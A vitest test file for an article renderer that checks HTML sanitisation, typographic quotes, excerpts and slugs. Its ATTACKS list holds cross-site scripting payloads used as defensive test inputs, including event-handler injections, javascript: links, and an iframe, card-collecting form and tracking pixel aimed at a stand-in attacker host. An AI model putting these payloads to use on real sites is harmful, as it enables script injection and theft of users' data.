import { load } from "cheerio";
import { describe, expect, it } from "vitest";
import { imagesIn } from "./pictures";
import { excerpt, plainText, renderBody } from "./render";
import { makeSlug } from "./slug";
import { smarten } from "./typography";

const ATTACKS = [
  "<script>alert(1)</script>",
  "<img src=x onerror=alert(1)>",
  "<svg onload=alert(1)><circle/></svg>",
  '<a href="javascript:alert(1)">x</a>',
  "[x](javascript:alert(1))",
  "[x](JaVaScRiPt&colon;alert(1))",
  "[x](data:text/html;base64,PHNjcmlwdD4=)",
  "[x](vbscript:msgbox)",
  "<iframe src=https://evil.example></iframe>",
  "<style>body{display:none}</style>",
  '<p style="position:fixed" onclick="alert(1)" id="ask" class="ask">x</p>',
  "<form action=https://evil.example><input name=card><button>Pay</button></form>",
  "<meta http-equiv=refresh content=0><base href=https://evil.example>",
  "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  "<details open ontoggle=alert(1)>",
  "![x](https://evil.example/pixel.gif)",
  "![x](/assets/../api/signout)",
  '![x](/assets/abc "<script>alert(1)</script>")',
  '<img src="/assets/abc" srcset="https://evil.example/x 2x">',
  "<object data=x></object><embed src=x><link rel=stylesheet href=x>",
  "<<script>script>alert(1)<</script>/script>",
  '<iframe src="javascript:alert(1)//youtube.com/embed/x"></iframe>',
  '<iframe src="https://youtube.com.evil.example/embed/x" title="a"></iframe>',
  '<a id="ask" role="button" aria-label="Pay" class="embed" href="/join">x</a>',
  '<section id="content" class="ask notes" role="dialog"><span onclick="x" class="skip">x</span></section>',
  '[^"><img src=x onerror=alert(1)>]\n\n[^"><img src=x onerror=alert(1)>]: note',
];
const ELEMENTS =
  /^(p|h2|h3|h4|ul|ol|li|blockquote|em|strong|b|i|del|s|a|hr|br|code|pre|sup|sub|table|thead|tbody|tr|th|td|img|figure|figcaption|span|section)$/;
const ATTRIBUTES =
  /^(href|title|rel|src|srcset|sizes|alt|width|height|loading|start|id|class|role|aria-label|aria-labelledby|aria-describedby)$/;

describe("an article's markup", () => {
  it.each(ATTACKS)("holds nothing that acts: %s", (attack) => {
    const $ = load(renderBody(`Before\n\n${attack}\n\nAfter ${attack}`), null, false);
    for (const element of $("*").toArray()) {
      expect($(element).prop("tagName")?.toLowerCase()).toMatch(ELEMENTS);
      for (const [name, value] of Object.entries($(element).attr() ?? {})) {
        expect(name).toMatch(ATTRIBUTES);
        if (name === "id") expect(value).toMatch(/^note-[\w.%-]+$/);
        if (name === "class") expect(value).toMatch(/^(embed|pull|notes)$/);
        if (name === "role") expect(value).toMatch(/^doc-/);
        if (name === "href") expect(value).toMatch(/^(https?:|mailto:|[/#]|$)/);
        if (name === "srcset") expect(value).not.toContain("evil");
        if (name === "src") expect(value).toMatch(/^\/assets\/[\w-]+$/);
      }
    }
  });

  it("keeps what articles are made of", () => {
    const html = renderBody(
      "# Top\n\n## Part\n\nA [link](https://a.example) and [ours](/join).\n\n> Said\n\n- one\n- two\n\n---\n\n![A](/assets/abc_-1)",
    );
    expect(html).toContain("<h2>Top</h2>");
    expect(html).toContain('<a href="https://a.example" rel="noopener">link</a>');
    expect(html).toContain('<a href="/join">ours</a>');
    expect(html).toContain("<blockquote>");
    expect(html).toContain('<img src="/assets/abc_-1" alt="A" loading="lazy" />');
  });

  it("gives pictures the room they take, and the widths there are, whatever the text says of that", () => {
    const hash = "a".repeat(22);
    const image = { hash, width: 900, height: 300, sizes: [{ hash: "b".repeat(22), width: 480 }] };
    const html = renderBody(
      `![A](/assets/${hash} "So & so")\n\n<img src="/assets/${hash}" width="1" srcset="https://evil.example/x 1w" sizes="1px">`,
      [image],
    );
    expect(html).toContain(`width="900" height="300" srcset="/assets/${"b".repeat(22)} 480w, /assets/${hash} 900w"`);
    expect(html).toContain("<figcaption>So &amp; so</figcaption></figure>");
    expect(html).not.toMatch(/evil|width="1"|1px/);
    expect(imagesIn(html)).toEqual([hash, "b".repeat(22)].sort());
  });

  it("is set as a typesetter would, and code is left alone", () => {
    expect(renderBody('"Well," she said -- \'no\'... `"a" -- b`')).toBe(
      '<p>“Well,” she said — ‘no’… <code>"a" -- b</code></p>',
    );
  });
});

describe("typography", () => {
  it.each([
    ["It's the dog's \"day\"", "It’s the dog’s “day”"],
    ["('quoted')", "(‘quoted’)"],
    ["the '90s", "the ’90s"],
    ["from 2006-2007 and 12-14", "from 2006–2007 and 12–14"],
    ["on 2026-11-23, call 555-0123-4", "on 2026-11-23, call 555-0123-4"],
    ["a well-known thing", "a well-known thing"],
  ])("%s", (text, set) => expect(smarten(text)).toBe(set));

  it("changes nothing when run again", () => {
    for (const text of ["\"A\" -- 'b'...", "It’s “so”", "2006-2007"])
      expect(smarten(smarten(text))).toBe(smarten(text));
  });
});

describe("excerpts", () => {
  it("are the standfirst where there is one", () => expect(excerpt({ standfirst: "Why.", body: "Body" })).toBe("Why."));
  it("else end with a sentence, or between words", () => {
    const sentence = "The reservoir stood at a third of its height on Tuesday, the lowest mark so far.";
    expect(excerpt({ standfirst: null, body: `${sentence} ${"More of it follows here, ".repeat(20)}` })).toBe(sentence);
    expect(excerpt({ standfirst: null, body: "word ".repeat(100) })).toMatch(/^(word )+word…$/);
  });
  it("are text, not markup", () =>
    expect(plainText('A **b** [c](https://d.example) <i>e</i> & "f"')).toBe("A b c e & “f”"));
});

describe("addresses", () => {
  it.each([
    ["The sea wall that Orrin’s Ferry paid for", "the-sea-wall-that-orrins-ferry-paid-for"],
    ["Über Straßen & Plätze", "ueber-strassen-and-plaetze"],
    ["新聞", "article"],
    ["!!!", "article"],
  ])("%s", (title, slug) => expect(makeSlug(title)).toBe(slug));
  it("are cut between words", () => {
    const slug = makeSlug("a quite remarkably long headline that goes on and on about a reservoir and its gauge");
    expect(slug.length).toBeLessThanOrEqual(80);
    expect(
      "a-quite-remarkably-long-headline-that-goes-on-and-on-about-a-reservoir-and-its-gauge".startsWith(`${slug}-`),
    ).toBe(true);
  });
});
